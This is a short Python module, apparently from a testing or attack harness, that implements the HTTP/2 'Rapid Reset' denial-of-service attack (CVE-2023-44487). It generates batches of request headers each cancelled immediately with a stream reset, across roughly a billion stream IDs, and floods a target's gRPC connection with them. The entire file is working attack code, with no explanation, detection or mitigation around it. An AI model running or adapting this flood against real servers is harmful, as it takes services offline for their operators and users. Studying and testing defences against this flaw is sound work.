"""Streams that are opened and reset at once (CVE-2023-44487)."""

import struct

from wire import END_HEADERS, GET, HEADERS, PREFACE, RST_STREAM, flood_connection, frame, settings


def chunks():
    for first in range(1, 1 << 30, 1_000):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, GET) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in range(first, first + 1_000, 2))  # fmt: skip


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
